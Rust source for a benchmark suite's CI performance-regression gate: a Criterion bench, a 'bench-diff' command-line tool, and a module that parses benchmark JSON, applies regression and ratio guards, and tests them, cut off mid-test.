use criterion::{criterion_group, criterion_main, Criterion};

fn bench_e7(c: &mut Criterion) {
    banner("E7 — measurement study, measured vs paper (claims C7–C9)");
    let result = run_e7(7, 1000);
    println!("{}", result.table());

    c.bench_function("e7_measurement_study/scan_1000", |b| {
        b.iter(|| run_e7(7, 1000))
    });
}

criterion_group!(benches, bench_e7);
criterion_main!(benches);
