//! CI perf-regression gate: compares fresh `bench-results/BENCH_*.json`
//! against the newest committed `perf/<date>/` snapshot and exits non-zero
//! when a guarded target's per-iter mean regressed beyond the threshold.
//!
//! ```text
//! cargo run -p bench --bin bench-diff -- [--fresh DIR] [--baseline DIR]
//!                                        [--threshold PCT]
//! ```
//!
//! Defaults: `--fresh <repo>/bench-results`, `--baseline` the newest
//! `<repo>/perf/<YYYY-MM-DD>/`, `--threshold 25`. Fresh artifacts without a
//! baseline counterpart (new benches, smoke subsets) are reported and pass.

use bench::benchdiff::{diff_dirs, newest_snapshot, DEFAULT_THRESHOLD_PCT, GUARDED};
use std::path::PathBuf;
use std::process::ExitCode;

fn repo_root() -> PathBuf {
    // crates/bench -> workspace root.
    PathBuf::from(env!("CARGO_MANIFEST_DIR"))
        .join("../..")
        .canonicalize()
        .unwrap_or_else(|_| PathBuf::from("."))
}

fn main() -> ExitCode {
    let mut fresh: Option<PathBuf> = None;
    let mut baseline: Option<PathBuf> = None;
    let mut threshold = DEFAULT_THRESHOLD_PCT;
    let mut allow_missing_guards = false;
    let mut args = std::env::args().skip(1);
    while let Some(arg) = args.next() {
        let mut value = |name: &str| {
            args.next()
                .unwrap_or_else(|| panic!("{name} needs a value"))
        };
        match arg.as_str() {
            "--fresh" => fresh = Some(PathBuf::from(value("--fresh"))),
            "--baseline" => baseline = Some(PathBuf::from(value("--baseline"))),
            "--threshold" => {
                threshold = value("--threshold")
                    .parse()
                    .expect("--threshold takes a percentage")
            }
            "--allow-missing-guards" => allow_missing_guards = true,
            "--help" | "-h" => {
                println!(
                    "bench-diff: gate fresh bench JSON against the committed perf snapshot\n\
                     options: --fresh DIR  --baseline DIR  --threshold PCT (default {DEFAULT_THRESHOLD_PCT})\n\
                     \x20        --allow-missing-guards (partial local runs)"
                );
                return ExitCode::SUCCESS;
            }
            other => {
                eprintln!("bench-diff: unknown argument {other:?} (try --help)");
                return ExitCode::FAILURE;
            }
        }
    }

    let root = repo_root();
    let fresh = fresh.unwrap_or_else(|| root.join("bench-results"));
    let baseline = match baseline.or_else(|| newest_snapshot(&root.join("perf"))) {
        Some(b) => b,
        None => {
            eprintln!(
                "bench-diff: no perf/<date>/ snapshot under {} and no --baseline given",
                root.display()
            );
            return ExitCode::FAILURE;
        }
    };
    println!(
        "bench-diff: {} (fresh) vs {} (baseline), threshold {threshold}% on guarded targets",
        fresh.display(),
        baseline.display()
    );

    let report = match diff_dirs(&baseline, &fresh) {
        Ok(r) => r,
        Err(e) => {
            eprintln!("bench-diff: {e}");
            return ExitCode::FAILURE;
        }
    };
    for c in &report.comparisons {
        println!("  {c}");
    }
    for name in &report.unmatched_fresh {
        println!("  {name:<48} (no baseline yet — passes)");
    }
    for r in &report.ratios {
        println!("  ratio {r}");
    }
    for r in &report.rate_ratios {
        println!("  rate-ratio {r}");
    }
    // A gate that checked less than it promises must not pass: schema
    // drift, a renamed guarded bench, or a smoke step dropping a target
    // would otherwise leave CI green while a hot path goes un-gated.
    // (Guarded targets present in fresh but lacking a baseline still pass
    // — that's a brand-new bench awaiting its first snapshot.)
    if !report.missing_guards.is_empty() && !allow_missing_guards {
        eprintln!(
            "bench-diff: FAIL — guarded target(s) absent from the fresh run: {} \
             (renamed bench? smoke step dropped? pass --allow-missing-guards for \
             partial local runs)",
            report.missing_guards.join(", ")
        );
        return ExitCode::FAILURE;
    }
    let guarded_compared = report.comparisons.iter().filter(|c| c.guarded).count();
    if guarded_compared == 0 && report.ratios.is_empty() && report.rate_ratios.is_empty() {
        eprintln!(
            "bench-diff: FAIL — none of the {} guarded targets, {} ratio guards or \
             {} rate-ratio guards could be evaluated (schema drift? missing artifacts?)",
            GUARDED.len(),
            bench::benchdiff::RATIO_GUARDS.len(),
            bench::benchdiff::RATE_RATIO_GUARDS.len()
        );
        return ExitCode::FAILURE;
    }

    let regressions = report.regressions(threshold);
    let ratio_failures = report.ratio_failures();
    if regressions.is_empty() && ratio_failures.is_empty() {
        println!(
            "bench-diff: OK ({guarded_compared} guarded targets within {threshold}%, \
             {} ratio guards hold)",
            report.ratios.len() + report.rate_ratios.len()
        );
        ExitCode::SUCCESS
    } else {
        if !regressions.is_empty() {
            eprintln!("bench-diff: FAIL — guarded targets regressed > {threshold}%:");
            for r in regressions {
                eprintln!("  {r}");
            }
        }
        for r in ratio_failures {
            eprintln!("bench-diff: FAIL — within-run ratio guard violated: {r}");
        }
        ExitCode::FAILURE
    }
}
