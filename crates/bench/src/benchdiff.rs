//! Perf-regression gate over the `BENCH_*.json` artifacts.
//!
//! Compares a fresh `bench-results/` run against the newest committed
//! `perf/<date>/` snapshot and fails (non-zero exit in the CLI) when a
//! *guarded* bench target regresses by more than the threshold on
//! per-iteration mean. Unguarded targets are reported but never fail the
//! gate — whole-table regeneration benches drift with host load, while the
//! guarded hot paths are the ones PRs promise not to regress.
//!
//! The JSON is the schema written by the vendored criterion stub
//! (`render_json`); parsing is a purpose-built scanner, so the gate works
//! without a JSON dependency in the offline container.

use std::fmt;
use std::path::{Path, PathBuf};

/// Bench names whose per-iter mean is gated. Extend when a PR lands a new
/// guarded hot path.
pub const GUARDED: &[&str] = &[
    // PR 1: lock-free Monte-Carlo dispatch and allocation-free selection.
    "e12_montecarlo_dispatch/lockfree_10k_cheap",
    "e12_chronos_select/scratch_partial_133x10k",
    // PR 2: pooled scenario sweeps.
    "e13_scenario_sweep/pooled_32x256",
    // PR 3: the population fleet engine.
    "e14_fleet_scale/fleet_100k",
    // PR 4: sharded intra-fleet stepping.
    "e14_fleet_scale/fleet_100k_sharded",
    // PR 5: the cohort engine — heterogeneous tiers across partially
    // poisoned resolvers (9-fleet E16 sweep, 90k clients total).
    "e16_partial_poisoning/mixed_90k_sweep",
    // PR 6: fault injection — the loss × outage grid over the mixed
    // fleet (10 faulty fleets, 90k clients total).
    "e17_degraded_network/faulty_90k",
    // PR 8: the guarded fleet target with the chronoscope side channel
    // attached — instrumentation itself is a guarded hot path.
    "e14_fleet_scale/fleet_100k_metrics",
    // PR 10: partial secure-time deployment — the NTS + Roughtime grid
    // over the mixed fleet (10 fleets, 90k clients total).
    "e18_secure_deployment/secure_grid_90k",
];

/// Default regression threshold on per-iter mean, in percent.
pub const DEFAULT_THRESHOLD_PCT: f64 = 25.0;

/// Within-run ratio guards: `(fast, slow, min_ratio)` — in the *fresh* run
/// alone, `min(slow) / min(fast)` must stay at or above `min_ratio`
/// (falling back to the per-iter mean for artifacts without recorded
/// minima). Immune to host drift (both sides run on the same machine
/// moments apart), and computed over each side's *fastest* sample because
/// both sides run identical deterministic workloads — the minimum is the
/// noise-free cost estimate, where a mean smears scheduler interference
/// across a tight floor like the ~2% metrics-overhead guard. Floors sit
/// below the recorded baselines to absorb shared-runner noise.
pub const RATIO_GUARDS: &[(&str, &str, f64)] = &[
    (
        "e12_montecarlo_dispatch/lockfree_10k_cheap",
        "e12_montecarlo_dispatch/baseline_mutex_10k_cheap",
        2.0, // recorded: 2.75x
    ),
    (
        "e13_scenario_sweep/pooled_32x256",
        "e13_scenario_sweep/rebuild_32x256",
        1.5, // recorded: 2.1x
    ),
    (
        // The instrumented fleet run may cost at most ~2% over the plain
        // one: min(plain)/min(metrics) ≥ 0.98. Both targets step the SAME
        // fleet object moments apart in the same process, so the floor is
        // host-drift immune — this is the PR 8 "<2% enabled overhead"
        // acceptance criterion.
        "e14_fleet_scale/fleet_100k_metrics",
        "e14_fleet_scale/fleet_100k",
        0.98,
    ),
    (
        // The fully secure fleet (NTS association machinery + M-source
        // Roughtime fetches) may cost at most ~2.5× the all-legacy fleet
        // of the same size: min(insecure)/min(secure) ≥ 0.4. Same
        // process, moments apart — host-drift immune.
        "e18_secure_deployment/secure_9k",
        "e18_secure_deployment/insecure_9k",
        0.4,
    ),
];

/// Within-run **rate** ratio guards: `(fast, reference, min_ratio)` — in
/// the fresh run alone, `elements_per_sec(fast) / elements_per_sec(ref)`
/// must stay at or above `min_ratio`. Unlike [`RATIO_GUARDS`] this
/// compares *throughput per declared element* rather than per-iteration
/// wall time, so targets with different workload sizes are comparable
/// (the fleet steps 10⁵ clients per iteration, the per-world reference a
/// dozen).
pub const RATE_RATIO_GUARDS: &[(&str, &str, f64)] = &[
    (
        "e14_fleet_scale/fleet_100k",
        "e14_fleet_scale/perworld_8",
        5.0, // clients-stepped/sec, fleet vs pooled netsim worlds; recorded: ≫100x
    ),
    (
        "e14_fleet_scale/fleet_100k_sharded",
        "e14_fleet_scale/fleet_100k",
        2.0, // 4-worker sharded stepping vs sequential, clients-stepped/sec.
             // Holds on the 4-core CI runner (the acceptance point); a
             // single-core host cannot meet it — the floor is a parallel-win
             // guard, not a host-portable invariant.
    ),
];

/// One within-run ratio check evaluated against a fresh run.
#[derive(Debug, Clone, PartialEq)]
pub struct RatioCheck {
    /// The guarded (fast) target.
    pub fast: String,
    /// The reference (slow) target.
    pub slow: String,
    /// Observed ratio (`min(slow) / min(fast)` for [`RATIO_GUARDS`],
    /// throughput-based for [`RATE_RATIO_GUARDS`]).
    pub ratio: f64,
    /// Required floor.
    pub min_ratio: f64,
}

impl RatioCheck {
    /// `true` when the fresh run violates the floor.
    pub fn failed(&self) -> bool {
        self.ratio < self.min_ratio
    }
}

impl fmt::Display for RatioCheck {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(
            f,
            "{} vs {}: {:.2}x (floor {:.2}x)",
            self.fast, self.slow, self.ratio, self.min_ratio
        )
    }
}

/// Evaluates [`RATIO_GUARDS`] against one fresh run's entries. Guards whose
/// targets are absent (bench not run) are skipped. Each side contributes
/// its fastest recorded sample (`min_secs_per_iter`, mean as fallback) —
/// see the [`RATIO_GUARDS`] docs for why the minimum is the right
/// statistic here.
pub fn ratio_checks(fresh: &[BenchEntry]) -> Vec<RatioCheck> {
    let best = |e: &BenchEntry| e.min_secs_per_iter.unwrap_or(e.mean_secs_per_iter);
    RATIO_GUARDS
        .iter()
        .filter_map(|&(fast, slow, min_ratio)| {
            let f = fresh.iter().find(|e| e.name == fast)?;
            let s = fresh.iter().find(|e| e.name == slow)?;
            (best(f) > 0.0).then(|| RatioCheck {
                fast: fast.to_string(),
                slow: slow.to_string(),
                ratio: best(s) / best(f),
                min_ratio,
            })
        })
        .collect()
}

/// Evaluates [`RATE_RATIO_GUARDS`] against one fresh run's entries: both
/// sides must have run *and* declared an element throughput, otherwise the
/// guard is skipped.
pub fn rate_ratio_checks(fresh: &[BenchEntry]) -> Vec<RatioCheck> {
    RATE_RATIO_GUARDS
        .iter()
        .filter_map(|&(fast, slow, min_ratio)| {
            let f = fresh.iter().find(|e| e.name == fast)?.elements_per_sec?;
            let s = fresh.iter().find(|e| e.name == slow)?.elements_per_sec?;
            (s > 0.0).then(|| RatioCheck {
                fast: fast.to_string(),
                slow: slow.to_string(),
                ratio: f / s,
                min_ratio,
            })
        })
        .collect()
}

/// The sides of [`RATE_RATIO_GUARDS`] that could not be evaluated (absent
/// from the fresh run, or present without a declared element throughput).
/// A skipped rate guard must not pass silently — these names feed the
/// missing-guard backstop, so a renamed or de-throughput-ed reference
/// bench fails the gate instead of un-gating the floor.
pub fn rate_guard_gaps(fresh: &[BenchEntry], evaluated: &[RatioCheck]) -> Vec<&'static str> {
    let mut gaps = Vec::new();
    for &(fast, slow, _) in RATE_RATIO_GUARDS {
        if evaluated.iter().any(|c| c.fast == fast && c.slow == slow) {
            continue;
        }
        for side in [fast, slow] {
            let rated = fresh
                .iter()
                .any(|e| e.name == side && e.elements_per_sec.is_some());
            if !rated && !gaps.contains(&side) {
                gaps.push(side);
            }
        }
    }
    gaps
}

/// One bench entry parsed out of a `BENCH_*.json` artifact.
#[derive(Debug, Clone, PartialEq)]
pub struct BenchEntry {
    /// Fully qualified bench name (`group/function`).
    pub name: String,
    /// Mean seconds per iteration.
    pub mean_secs_per_iter: f64,
    /// Fastest recorded iteration, when the artifact carries one.
    pub min_secs_per_iter: Option<f64>,
    /// Declared elements/sec, when the bench set an element throughput.
    pub elements_per_sec: Option<f64>,
}

/// The comparison of one bench name present in both runs.
#[derive(Debug, Clone, PartialEq)]
pub struct Comparison {
    /// Bench name.
    pub name: String,
    /// Baseline per-iter mean (seconds).
    pub base_mean: f64,
    /// Fresh per-iter mean (seconds).
    pub fresh_mean: f64,
    /// Whether this target is on the [`GUARDED`] list.
    pub guarded: bool,
}

impl Comparison {
    /// Signed change in percent (positive = slower).
    pub fn delta_pct(&self) -> f64 {
        if self.base_mean <= 0.0 {
            return 0.0;
        }
        100.0 * (self.fresh_mean - self.base_mean) / self.base_mean
    }

    /// `true` when this entry alone fails the gate at `threshold_pct`.
    pub fn regressed(&self, threshold_pct: f64) -> bool {
        self.guarded && self.delta_pct() > threshold_pct
    }
}

impl fmt::Display for Comparison {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(
            f,
            "{:<48} {:>12.3e}s -> {:>12.3e}s  {:>+7.1}%{}",
            self.name,
            self.base_mean,
            self.fresh_mean,
            self.delta_pct(),
            if self.guarded { "  [guarded]" } else { "" },
        )
    }
}

fn scan_string(bytes: &[u8], mut i: usize) -> Option<(String, usize)> {
    // `i` points at the opening quote.
    debug_assert_eq!(bytes[i], b'"');
    i += 1;
    let mut out = String::new();
    while i < bytes.len() {
        match bytes[i] {
            b'"' => return Some((out, i + 1)),
            b'\\' => {
                let esc = *bytes.get(i + 1)?;
                match esc {
                    b'"' => out.push('"'),
                    b'\\' => out.push('\\'),
                    b'n' => out.push('\n'),
                    b'u' => {
                        let hex = std::str::from_utf8(bytes.get(i + 2..i + 6)?).ok()?;
                        let code = u32::from_str_radix(hex, 16).ok()?;
                        out.push(char::from_u32(code)?);
                        i += 4;
                    }
                    other => out.push(other as char),
                }
                i += 2;
            }
            b => {
                out.push(b as char);
                i += 1;
            }
        }
    }
    None
}

/// Extracts the string value for `key` starting at/after `from`.
fn field_string(text: &str, key: &str, from: usize) -> Option<(String, usize)> {
    let needle = format!("\"{key}\":");
    let at = text[from..].find(&needle)? + from + needle.len();
    let bytes = text.as_bytes();
    let mut i = at;
    while i < bytes.len() && bytes[i].is_ascii_whitespace() {
        i += 1;
    }
    if bytes.get(i) != Some(&b'"') {
        return None;
    }
    scan_string(bytes, i)
}

/// Extracts the numeric value for `key` starting at/after `from`.
fn field_number(text: &str, key: &str, from: usize) -> Option<(f64, usize)> {
    let needle = format!("\"{key}\":");
    let at = text[from..].find(&needle)? + from + needle.len();
    let rest = text[at..].trim_start();
    let off = at + (text[at..].len() - rest.len());
    let end = rest
        .find(|c: char| !(c.is_ascii_digit() || "+-.eE".contains(c)))
        .unwrap_or(rest.len());
    rest[..end].parse().ok().map(|v| (v, off + end))
}

/// Parses the entries out of one `BENCH_*.json` artifact.
///
/// Returns an empty vector for files without a `results` array; malformed
/// entries are skipped rather than failing the whole gate.
pub fn parse_artifact(text: &str) -> Vec<BenchEntry> {
    let mut entries = Vec::new();
    let Some(results_at) = text.find("\"results\"") else {
        return entries;
    };
    let mut cursor = results_at;
    while let Some((name, after_name)) = field_string(text, "name", cursor) {
        // The bench-level "bench" field also precedes "results"; starting
        // the scan at the array keeps us inside entry objects only.
        let next_name = text[after_name..].find("\"name\":").map(|p| after_name + p);
        match field_number(text, "mean_secs_per_iter", after_name) {
            // Accept the mean only if it belongs to THIS entry (it must
            // appear before the next entry's name); otherwise the entry is
            // malformed — skip it and keep scanning the rest.
            Some((mean, after_mean)) if next_name.map(|n| after_mean <= n).unwrap_or(true) => {
                // min_secs_per_iter and elements_per_sec are optional
                // ("null" fails the numeric parse, which is exactly the
                // absent case) and must also belong to this entry.
                let min_secs_per_iter = field_number(text, "min_secs_per_iter", after_mean)
                    .filter(|&(_, after)| next_name.map(|n| after <= n).unwrap_or(true))
                    .map(|(min, _)| min);
                let elements_per_sec = field_number(text, "elements_per_sec", after_mean)
                    .filter(|&(_, after)| next_name.map(|n| after <= n).unwrap_or(true))
                    .map(|(eps, _)| eps);
                entries.push(BenchEntry {
                    name,
                    mean_secs_per_iter: mean,
                    min_secs_per_iter,
                    elements_per_sec,
                });
                cursor = after_mean;
            }
            _ => match next_name {
                Some(n) => cursor = n,
                None => break,
            },
        }
    }
    entries
}

/// Pairs up baseline and fresh entries by name.
pub fn compare(base: &[BenchEntry], fresh: &[BenchEntry]) -> Vec<Comparison> {
    fresh
        .iter()
        .filter_map(|f| {
            let b = base.iter().find(|b| b.name == f.name)?;
            Some(Comparison {
                name: f.name.clone(),
                base_mean: b.mean_secs_per_iter,
                fresh_mean: f.mean_secs_per_iter,
                guarded: GUARDED.contains(&f.name.as_str()),
            })
        })
        .collect()
}

/// The newest `perf/<YYYY-MM-DD[suffix]>/` snapshot directory under
/// `perf_root`. Suffixes (`2026-07-27-pr2`) order after the bare date, and
/// same-day suffixes compare by length before lexicographically, so `-pr10`
/// correctly beats `-pr2`.
pub fn newest_snapshot(perf_root: &Path) -> Option<PathBuf> {
    let mut dates: Vec<String> = std::fs::read_dir(perf_root)
        .ok()?
        .flatten()
        .filter(|e| e.path().is_dir())
        .filter_map(|e| e.file_name().into_string().ok())
        .filter(|n| {
            n.len() >= 10
                && n.chars().take(10).enumerate().all(|(i, c)| match i {
                    4 | 7 => c == '-',
                    _ => c.is_ascii_digit(),
                })
        })
        .collect();
    dates.sort_by(|a, b| (&a[..10], a.len(), &a[10..]).cmp(&(&b[..10], b.len(), &b[10..])));
    dates.pop().map(|d| perf_root.join(d))
}

/// Outcome of a directory-level diff.
#[derive(Debug, Default)]
pub struct DiffReport {
    /// Every bench name present in both directories.
    pub comparisons: Vec<Comparison>,
    /// `BENCH_*.json` files in the fresh dir with no baseline counterpart.
    pub unmatched_fresh: Vec<String>,
    /// Within-run ratio guards evaluated on the fresh run (host-drift
    /// immune; these apply even to fresh artifacts with no baseline).
    pub ratios: Vec<RatioCheck>,
    /// Within-run *rate* ratio guards (elements/sec, cross-workload-size).
    pub rate_ratios: Vec<RatioCheck>,
    /// [`GUARDED`] names with no entry in the fresh run at all — a renamed
    /// or dropped guarded bench, which would otherwise silently un-gate
    /// that hot path.
    pub missing_guards: Vec<&'static str>,
}

impl DiffReport {
    /// Guarded comparisons over the threshold.
    pub fn regressions(&self, threshold_pct: f64) -> Vec<&Comparison> {
        self.comparisons
            .iter()
            .filter(|c| c.regressed(threshold_pct))
            .collect()
    }

    /// Ratio guards (time- and rate-based) the fresh run violates.
    pub fn ratio_failures(&self) -> Vec<&RatioCheck> {
        self.ratios
            .iter()
            .chain(self.rate_ratios.iter())
            .filter(|r| r.failed())
            .collect()
    }
}

/// Diffs every `BENCH_*.json` present in `fresh_dir` against `base_dir`.
///
/// Files that exist only in the fresh directory (e.g. the CI smoke runs a
/// subset of benches, or a brand-new bench has no baseline yet) are listed
/// in `unmatched_fresh` and do not fail the gate.
///
/// # Errors
///
/// Returns an error when `fresh_dir` cannot be read or contains no bench
/// artifacts at all — a gate that silently compares nothing would pass
/// forever.
pub fn diff_dirs(base_dir: &Path, fresh_dir: &Path) -> Result<DiffReport, String> {
    let mut report = DiffReport::default();
    let mut seen_any = false;
    let mut all_fresh: Vec<BenchEntry> = Vec::new();
    let entries = std::fs::read_dir(fresh_dir)
        .map_err(|e| format!("cannot read fresh dir {}: {e}", fresh_dir.display()))?;
    let mut names: Vec<String> = entries
        .flatten()
        .filter_map(|e| e.file_name().into_string().ok())
        .filter(|n| n.starts_with("BENCH_") && n.ends_with(".json"))
        .collect();
    names.sort();
    for name in names {
        seen_any = true;
        let fresh_text = std::fs::read_to_string(fresh_dir.join(&name))
            .map_err(|e| format!("cannot read {name}: {e}"))?;
        let fresh_entries = parse_artifact(&fresh_text);
        let base_path = base_dir.join(&name);
        match std::fs::read_to_string(&base_path) {
            Ok(base_text) => {
                report
                    .comparisons
                    .extend(compare(&parse_artifact(&base_text), &fresh_entries));
            }
            Err(_) => report.unmatched_fresh.push(name),
        }
        all_fresh.extend(fresh_entries);
    }
    if !seen_any {
        return Err(format!(
            "no BENCH_*.json artifacts in {} — run `cargo bench -p bench` first",
            fresh_dir.display()
        ));
    }
    report.ratios = ratio_checks(&all_fresh);
    report.rate_ratios = rate_ratio_checks(&all_fresh);
    report.missing_guards = GUARDED
        .iter()
        .filter(|g| !all_fresh.iter().any(|e| e.name == **g))
        .copied()
        .collect();
    for side in rate_guard_gaps(&all_fresh, &report.rate_ratios) {
        if !report.missing_guards.contains(&side) {
            report.missing_guards.push(side);
        }
    }
    Ok(report)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn artifact(entries: &[(&str, f64)]) -> String {
        let rows: Vec<String> = entries
            .iter()
            .map(|(n, m)| {
                format!(
                    "    {{\"name\": \"{n}\", \"iters\": 5, \"wall_time_secs\": 1.0, \
                     \"mean_secs_per_iter\": {m:.9}, \"min_secs_per_iter\": {m:.9}, \
                     \"elements_per_sec\": null, \"bytes_per_sec\": null}}"
                )
            })
            .collect();
        format!(
            "{{\n  \"bench\": \"t\",\n  \"schema\": 1,\n  \"peak_rss_bytes\": null,\n  \
             \"results\": [\n{}\n  ]\n}}\n",
            rows.join(",\n")
        )
    }

    #[test]
    fn parses_the_artifact_schema() {
        let text = artifact(&[("g/a", 0.001), ("g/b", 2.5e-7)]);
        let entries = parse_artifact(&text);
        assert_eq!(entries.len(), 2);
        assert_eq!(entries[0].name, "g/a");
        assert!((entries[0].mean_secs_per_iter - 0.001).abs() < 1e-12);
        assert!((entries[1].mean_secs_per_iter - 2.5e-7).abs() < 1e-15);
    }

    #[test]
    fn malformed_entry_is_skipped_not_fatal() {
        // Entry "g/b" lacks mean_secs_per_iter; its neighbours must still
        // parse (a vacuous gate is the failure mode this guards against).
        let text = "{\"results\": [\
                    {\"name\": \"g/a\", \"mean_secs_per_iter\": 0.25},\
                    {\"name\": \"g/b\", \"iters\": 3},\
                    {\"name\": \"g/c\", \"mean_secs_per_iter\": 0.5}]}";
        let entries = parse_artifact(text);
        assert_eq!(entries.len(), 2);
        assert_eq!(entries[0].name, "g/a");
        assert_eq!(entries[1].name, "g/c");
        assert!((entries[1].mean_secs_per_iter - 0.5).abs() < 1e-12);
    }

    #[test]
    fn parses_escaped_names_and_ignores_junk() {
        let text = "{\"results\": [ {\"name\": \"a\\\"b\", \"mean_secs_per_iter\": 1.5} ]}";
        let entries = parse_artifact(text);
        assert_eq!(entries.len(), 1);
        assert_eq!(entries[0].name, "a\"b");
        assert!(parse_artifact("not json at all").is_empty());
        assert!(parse_artifact("{}").is_empty());
    }

    /// The acceptance criterion: a guarded target >25% slower must fail.
    #[test]
    fn guarded_regression_over_threshold_fails_the_gate() {
        let guarded = GUARDED[0];
        let base = parse_artifact(&artifact(&[(guarded, 0.100), ("other/x", 0.100)]));
        let fresh = parse_artifact(&artifact(&[(guarded, 0.126), ("other/x", 0.500)]));
        let cmp = compare(&base, &fresh);
        let regressions: Vec<&Comparison> = cmp
            .iter()
            .filter(|c| c.regressed(DEFAULT_THRESHOLD_PCT))
            .collect();
        assert_eq!(regressions.len(), 1, "only the guarded 26% miss fails");
        assert_eq!(regressions[0].name, guarded);
        assert!(
            regressions[0].delta_pct() > 25.0 && regressions[0].delta_pct() < 27.0,
            "delta {}",
            regressions[0].delta_pct()
        );
    }

    #[test]
    fn guarded_regression_under_threshold_passes() {
        let guarded = GUARDED[0];
        let base = parse_artifact(&artifact(&[(guarded, 0.100)]));
        let fresh = parse_artifact(&artifact(&[(guarded, 0.124)]));
        let cmp = compare(&base, &fresh);
        assert!(cmp.iter().all(|c| !c.regressed(DEFAULT_THRESHOLD_PCT)));
        // Speedups obviously pass too.
        let faster = parse_artifact(&artifact(&[(guarded, 0.050)]));
        assert!(compare(&base, &faster)
            .iter()
            .all(|c| !c.regressed(DEFAULT_THRESHOLD_PCT)));
    }

    #[test]
    fn unguarded_regressions_never_fail() {
        let base = parse_artifact(&artifact(&[("whole_table/regen", 0.1)]));
        let fresh = parse_artifact(&artifact(&[("whole_table/regen", 9.9)]));
        assert!(compare(&base, &fresh)
            .iter()
            .all(|c| !c.regressed(DEFAULT_THRESHOLD_PCT)));
    }

    fn artifact_with_eps(entries: &[(&str, f64, f64)]) -> String {
        let rows: Vec<String> = entries
            .iter()
            .map(|(n, m, eps)| {
                format!(
                    "    {{\"name\": \"{n}\", \"iters\": 5, \"wall_time_secs\": 1.0, \
                     \"mean_secs_per_iter\": {m:.9}, \"min_secs_per_iter\": {m:.9}, \
                     \"elements_per_sec\": {eps:.3}, \"bytes_per_sec\": null}}"
                )
            })
            .collect();
        format!(
            "{{\n  \"bench\": \"t\",\n  \"schema\": 1,\n  \"peak_rss_bytes\": null,\n  \
             \"results\": [\n{}\n  ]\n}}\n",
            rows.join(",\n")
        )
    }

    #[test]
    fn elements_per_sec_is_parsed_per_entry() {
        let text = artifact_with_eps(&[("g/a", 0.5, 1000.0), ("g/b", 0.25, 4000.0)]);
        let entries = parse_artifact(&text);
        assert_eq!(entries.len(), 2);
        assert_eq!(entries[0].elements_per_sec, Some(1000.0));
        assert_eq!(entries[1].elements_per_sec, Some(4000.0));
        // Null rates parse as absent, not as the neighbour's value.
        let mixed = "{\"results\": [\
                     {\"name\": \"g/a\", \"mean_secs_per_iter\": 0.25, \"elements_per_sec\": null},\
                     {\"name\": \"g/b\", \"mean_secs_per_iter\": 0.5, \"elements_per_sec\": 77.0}]}";
        let entries = parse_artifact(mixed);
        assert_eq!(entries[0].elements_per_sec, None);
        assert_eq!(entries[1].elements_per_sec, Some(77.0));
    }

    #[test]
    fn rate_ratio_guard_enforces_the_clients_per_sec_floor() {
        let (fast, slow, floor) = RATE_RATIO_GUARDS[0];
        // Healthy: the fleet steps clients 100x faster than per-world.
        let healthy = parse_artifact(&artifact_with_eps(&[
            (fast, 2.0, 50_000.0),
            (slow, 1.0, 500.0),
        ]));
        let checks = rate_ratio_checks(&healthy);
        assert_eq!(checks.len(), 1);
        assert!((checks[0].ratio - 100.0).abs() < 1e-9);
        assert!(!checks[0].failed(), "100x >= {floor}x floor");
        // Collapsed: the fleet lost its scale advantage.
        let collapsed = parse_artifact(&artifact_with_eps(&[
            (fast, 2.0, 1_000.0),
            (slow, 1.0, 500.0),
        ]));
        assert!(
            rate_ratio_checks(&collapsed)[0].failed(),
            "2x < {floor}x floor"
        );
        // Skipped when a side is missing or rate-less.
        assert!(rate_ratio_checks(&parse_artifact(&artifact(&[(fast, 1.0)]))).is_empty());
        let no_rate = parse_artifact(&artifact(&[(fast, 1.0), (slow, 1.0)]));
        assert!(
            rate_ratio_checks(&no_rate).is_empty(),
            "null rates skip the guard"
        );
    }

    /// Every distinct bench name appearing on either side of a rate
    /// guard, in guard order.
    fn rate_guard_sides() -> Vec<&'static str> {
        let mut sides = Vec::new();
        for &(fast, slow, _) in RATE_RATIO_GUARDS {
            for side in [fast, slow] {
                if !sides.contains(&side) {
                    sides.push(side);
                }
            }
        }
        sides
    }

    #[test]
    fn skipped_rate_guards_surface_as_missing() {
        // Every side rated: all guards evaluate, no gaps.
        let all_rated: Vec<(&str, f64, f64)> = rate_guard_sides()
            .iter()
            .enumerate()
            .map(|(i, &name)| (name, 1.0, 10.0 * (i + 1) as f64))
            .collect();
        let rated = parse_artifact(&artifact_with_eps(&all_rated));
        let checks = rate_ratio_checks(&rated);
        assert_eq!(checks.len(), RATE_RATIO_GUARDS.len());
        assert!(rate_guard_gaps(&rated, &checks).is_empty());
        // A reference bench dropped its Throughput declaration: its guard
        // is skipped — the rate-less side must surface instead of silently
        // un-gating the floor (alongside any wholly absent guard sides).
        let (fast, slow, _) = RATE_RATIO_GUARDS[0];
        let half = "{\"results\": [\
                    {\"name\": \"NAME_FAST\", \"mean_secs_per_iter\": 1.0, \"elements_per_sec\": 5.0},\
                    {\"name\": \"NAME_SLOW\", \"mean_secs_per_iter\": 1.0, \"elements_per_sec\": null}]}"
            .replace("NAME_FAST", fast)
            .replace("NAME_SLOW", slow);
        let entries = parse_artifact(&half);
        let checks = rate_ratio_checks(&entries);
        assert!(
            checks.is_empty(),
            "guard cannot evaluate without both rates"
        );
        let gaps = rate_guard_gaps(&entries, &checks);
        assert!(gaps.contains(&slow), "the rate-less side surfaces");
        assert!(!gaps.contains(&fast), "the rated side does not");
        // Nothing benched at all: every guard side surfaces.
        assert_eq!(rate_guard_gaps(&[], &[]), rate_guard_sides());
    }

    #[test]
    fn ratio_guards_fail_on_collapsed_speedup() {
        let (fast, slow, floor) = RATIO_GUARDS[0];
        // Healthy: fast side well under slow/floor.
        let healthy = parse_artifact(&artifact(&[(fast, 0.010), (slow, 0.050)]));
        let checks = ratio_checks(&healthy);
        assert_eq!(checks.len(), 1);
        assert!(!checks[0].failed(), "5x >= {floor}x floor");
        // Collapsed: the "fast" path no longer beats the reference.
        let collapsed = parse_artifact(&artifact(&[(fast, 0.050), (slow, 0.050)]));
        let checks = ratio_checks(&collapsed);
        assert!(checks[0].failed(), "1.0x must violate the {floor}x floor");
        // Guard skipped when its targets were not benched.
        assert!(ratio_checks(&parse_artifact(&artifact(&[("other/x", 1.0)]))).is_empty());
    }

    /// The PR 8 acceptance criterion: enabled instrumentation on the
    /// guarded fleet target costs under ~2%, enforced within one run.
    #[test]
    fn metrics_overhead_guard_enforces_the_two_percent_floor() {
        let metrics = "e14_fleet_scale/fleet_100k_metrics";
        let &(_, plain, floor) = RATIO_GUARDS
            .iter()
